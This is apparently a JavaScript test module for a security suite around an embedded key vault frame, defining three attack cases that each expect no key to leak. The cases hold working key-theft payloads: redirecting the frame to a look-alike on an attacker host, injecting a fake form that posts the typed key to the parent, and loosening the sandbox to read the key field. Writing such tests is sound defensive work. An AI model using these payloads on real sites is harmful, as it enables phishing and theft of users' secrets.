/** Number 21, before the key is typed: a look-alike in the vault's own place, or the vault with its walls down. */
import { plain, strictly } from '../setups.mjs';

export const SWAPPED = [
  {
    number: 21,
    id: 'swapped-address',
    name: 'before the key is typed, the caught frame is led to a look-alike on the attacker’s host',
    attack: (t) => {
      addEventListener('message', ({ data }) => t.loot(data));
      t.whenDrawn((frame) => {
        frame.removeAttribute('srcdoc');
        frame.src = `${t.evil}/look-alike.html`;
      });
    },
  },
  {
    number: 21,
    id: 'swapped-source',
    name: 'before the key is typed, the caught frame gets another source',
    attack: (t) => {
      addEventListener('message', ({ data }) => t.loot(data));
      t.whenDrawn((frame) => {
        frame.srcdoc = `<title>BYOM vault</title><section data-view="connect"><input data-field="key"><button data-action="connect">Connect</button></section>
          <script>document.querySelector('button').onclick = () => parent.postMessage({ stolen: document.querySelector('input').value }, '*')<\/script>`;
      });
    },
  },
  {
    number: 21,
    id: 'walls-down',
    name: 'the caught frame’s sandbox is loosened and the frame loaded anew, under the strict policy',
    setup: strictly,
    attack: (t) => {
      const seen = (frame) => {
        try {
          const field = frame.contentDocument?.querySelector('[data-field=key]');
          if (field && t.isSecret(field.value)) t.loot(field.value);
        } catch {
          // Still a wall.
        }
      };
      const frames = t.watchFrames((frame) => {
        if (frame.sandbox.contains('allow-same-origin')) return;
        frame.sandbox.add('allow-same-origin', 'allow-scripts');
        frame.addEventListener('load', () => {
          const { port1, port2 } = new MessageChannel();
          frame.contentWindow.postMessage({ type: 'byom-port', salt: 'x' }, '*', [port2]);
          port1.postMessage({
            type: 'view',
            name: 'connect',
            terms: {},
            theme: {},
            lang: 'en',
            dir: 'ltr',
            amounts: {},
          });
        });
        frame.style.cssText = 'height: 400px';
        frame.parentNode.append(frame);
      });
      setInterval(() => frames.forEach(seen), 5);
    },
  },
].map((row) => ({
  setup: { ...plain, name: 'swapped', leaky: { leaky: 'frame' }, patience: 6000 },
  moments: ['early', 'mid'],
  lost: ['early'],
  expected: 'no-key',
  alone: true,
  ...row,
}));
